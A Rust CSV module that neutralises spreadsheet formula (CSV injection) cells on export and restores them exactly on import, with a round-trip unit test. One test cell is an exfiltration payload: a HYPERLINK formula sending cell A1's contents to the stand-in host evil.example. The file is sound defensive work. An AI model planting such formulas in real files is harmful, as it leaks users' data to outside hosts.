//! The CSV format, read for `import` and written for the open data and the
//! exports: the one module that uses the `csv` crate.

/// How a CSV file is laid out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Layout {
    /// Fields quoted only where needed, lines ending in LF: the site's own
    /// open data (`register.csv`, `errors.csv`).
    Plain,
    /// Every field quoted, lines ending in CRLF as RFC 4180 asks: the
    /// exports other registers take in.
    Strict,
}

/// Characters that make a spreadsheet read a cell as a formula when they
/// start it (OWASP, "CSV injection"): `=`, `+`, `-`, `@`, tab and carriage
/// return.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet would take `cell` as a formula, or the cell would
/// look like one neutralised here once its first quote is taken off.
fn needs_quote_mark(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// A cell as it is written: one that a spreadsheet would run as a formula
/// gets a leading `'`, which spreadsheets show as text and do not display.
/// A cell that already starts with quote marks before such a character gets
/// one more, so that [`read`] gives every text back exactly.
fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote_mark(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// The text of a cell written by [`neutralised`].
fn restored(cell: String) -> String {
    if cell.starts_with('\'') && needs_quote_mark(&cell) {
        cell[1..].to_string()
    } else {
        cell
    }
}

/// Writes a header and rows as CSV. Every cell that would start a formula
/// is neutralised, whatever its source.
pub(crate) fn write(layout: Layout, header: &[&str], rows: &[Vec<String>]) -> Vec<u8> {
    let mut builder = csv::WriterBuilder::new();
    if layout == Layout::Strict {
        builder
            .quote_style(csv::QuoteStyle::Always)
            .terminator(csv::Terminator::CRLF);
    }
    let mut w = builder.from_writer(Vec::new());
    // Writing to memory cannot fail.
    let _ = w.write_record(header.iter().map(|h| neutralised(h).into_owned()));
    for row in rows {
        let _ = w.write_record(row.iter().map(|cell| neutralised(cell).into_owned()));
    }
    w.into_inner().unwrap_or_default()
}

/// Reads CSV with a header row one row at a time, from any reader, so a
/// file of any size is never held whole. Rows may be shorter or longer
/// than the header. The caller drops a byte-order mark.
pub(crate) struct Reader<R> {
    inner: csv::Reader<R>,
    header: Vec<String>,
    record: csv::ByteRecord,
}

impl<R: std::io::Read> Reader<R> {
    /// Reads the header row.
    pub(crate) fn new(input: R) -> Result<Self, String> {
        let mut inner = csv::ReaderBuilder::new().flexible(true).from_reader(input);
        let header = inner
            .byte_headers()
            .map_err(|e| e.to_string())?
            .iter()
            .map(|h| {
                std::str::from_utf8(h)
                    .map(|h| h.trim().to_string())
                    .map_err(|_| "its first line (the column names) is not UTF-8 text".to_string())
            })
            .collect::<Result<_, _>>()?;
        Ok(Reader {
            inner,
            header,
            record: csv::ByteRecord::new(),
        })
    }

    pub(crate) fn header(&self) -> &[String] {
        &self.header
    }

    /// The next row: the line it starts on, and its cells as written
    /// before [`neutralised`], or the number (from 1) of its first cell
    /// that is not UTF-8 text. `None` at the end.
    #[allow(clippy::type_complexity)]
    pub(crate) fn next_row(&mut self) -> Result<Option<(u64, Result<Vec<String>, usize>)>, String> {
        if !self
            .inner
            .read_byte_record(&mut self.record)
            .map_err(|e| e.to_string())?
        {
            return Ok(None);
        }
        let line = self.record.position().map(|p| p.line()).unwrap_or(0);
        let cells = self
            .record
            .iter()
            .enumerate()
            .map(|(i, cell)| {
                std::str::from_utf8(cell)
                    .map(|cell| restored(cell.to_string()))
                    .map_err(|_| i + 1)
            })
            .collect();
        Ok(Some((line, cells)))
    }
}

/// Reads CSV text with a header row into (header, rows).
#[cfg(test)]
fn read(text: &str) -> Result<(Vec<String>, Vec<Vec<String>>), String> {
    let mut r = Reader::new(text.as_bytes())?;
    let mut rows = Vec::new();
    while let Some((_, cells)) = r.next_row()? {
        rows.push(cells.map_err(|c| format!("cell {c} is not UTF-8"))?);
    }
    Ok((r.header().to_vec(), rows))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_read_back_exactly() {
        let cells = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+44 1632 960000",
            "-1",
            "@SUM(A1)",
            "\tTabbed",
            "\rReturn",
            "'=already quoted",
            "''+twice",
            "'plain quote",
            "Plain text",
            "a=b",
            "",
        ];
        for layout in [Layout::Plain, Layout::Strict] {
            let rows = vec![cells.iter().map(|c| c.to_string()).collect::<Vec<_>>()];
            let header: Vec<&str> = (0..cells.len()).map(|_| "h").collect();
            let bytes = write(layout, &header, &rows);
            // What a spreadsheet sees: no cell starts with a formula character.
            let mut raw = csv::ReaderBuilder::new()
                .has_headers(true)
                .from_reader(bytes.as_slice());
            let record = raw.records().next().unwrap().unwrap();
            for cell in record.iter() {
                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} left unsafe");
            }
            // What import reads: the original text.
            let (_, back) = read(std::str::from_utf8(&bytes).unwrap()).unwrap();
            assert_eq!(back, rows, "{layout:?}");
        }
    }
}
